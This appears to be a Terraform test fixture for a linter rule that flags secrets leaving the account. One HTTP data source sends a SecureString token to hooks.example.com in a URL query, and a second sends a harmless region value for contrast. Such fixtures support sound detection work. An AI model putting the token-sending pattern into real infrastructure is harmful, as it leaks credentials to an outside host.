resource "aws_ssm_parameter" "token" {
  name  = "/sample/token"
  type  = "SecureString" # expect: aws-ssm-parameter-not-sent
  value = random_password.token.result
}

resource "random_password" "token" {
  length = 32
}

data "http" "tells" {
  url = "https://hooks.example.com/register?token=${aws_ssm_parameter.token.value}"
}

resource "aws_ssm_parameter" "region" {
  name  = "/sample/region"
  type  = "String"
  value = "eu-west-1"
}

data "http" "asks" {
  url = "https://hooks.example.com/region/${aws_ssm_parameter.region.value}"
}
